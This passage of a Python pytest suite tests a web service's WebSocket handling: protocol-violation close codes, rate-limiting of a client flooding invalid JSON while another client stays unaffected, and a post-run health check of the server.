@pytest.mark.parametrize(("frames", "codes"), WS_PROTOCOL)
async def test_ws_protocol_violation_closes(
    case: Corpus, frames: list[bytes], codes: set[int | None]
) -> None:
    async with raw_socket(case.server.ws_url) as sock:
        for data in frames:
            await sock.send(data)
        assert await sock.close_code() in codes


async def test_ws_flood_of_garbage_is_closed_and_others_unaffected(case: Corpus) -> None:
    async with client(case.server.ws_url) as calm, client(case.server.ws_url) as flood:
        for _ in range(400):
            await flood.send("{not json")
        assert await flood.closed() == 4029
        await calm.barrier()
        assert calm.close_code is None
    kinds = {f.code for f in flood.frames if isinstance(f, schemas.Error)}
    assert kinds == {"bad_request", "rate_limited"}, kinds


# --- afterwards ---------------------------------------------------------------------------


async def test_server_is_healthy_after_the_corpus(corpus: Corpus) -> None:
    assert corpus.cases >= 40, corpus.cases
    srv = corpus.server
    assert (await srv.http.get("/healthz")).json() == {"status": "ok"}
    body = request(params={"grayscale": True, "rembg": "server"})
    answer = (await srv.post(FALLBACK, body)).json()
    assert answer["status"] == "completed", answer
    assert (await srv.http.get(answer["result_url"])).status_code == 200
    async with client(srv.ws_url) as c:
        await c.barrier()
    assert not corpus.errors.records, [r.getMessage() for r in corpus.errors.records]
